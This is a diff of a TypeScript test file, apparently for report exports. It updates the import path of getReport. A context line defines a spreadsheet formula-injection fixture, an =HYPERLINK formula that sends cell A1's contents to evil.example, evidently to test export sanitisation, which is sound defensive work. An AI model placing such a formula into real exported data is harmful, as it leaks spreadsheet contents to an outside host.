@@ -18,7 +18,7 @@ const EVIL_TEAM = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 let temp: TempDatabase
 let raw: Database.Database
-let app: { prisma: typeof import('@/lib/db/client').prisma; getReport: typeof import('@/lib/db/queries/report').getReport; getScopeBySlug: typeof import('@/lib/db/queries/teams').getScopeBySlug }
+let app: { prisma: typeof import('@/lib/db/client').prisma; getReport: typeof import('@/lib/reports/get-report').getReport; getScopeBySlug: typeof import('@/lib/db/queries/teams').getScopeBySlug }
 
 beforeAll(async () => {
   temp = createTempDatabase('exports-agree')
@@ -27,7 +27,7 @@ beforeAll(async () => {
   const [{ prisma }, { loadDemoData }, { getReport }, { getScopeBySlug }] = await Promise.all([
     import('@/lib/db/client'),
     import('@/lib/db/services/load-demo-data'),
-    import('@/lib/db/queries/report'),
+    import('@/lib/reports/get-report'),
     import('@/lib/db/queries/teams'),
   ])
   app = { prisma, getReport, getScopeBySlug }
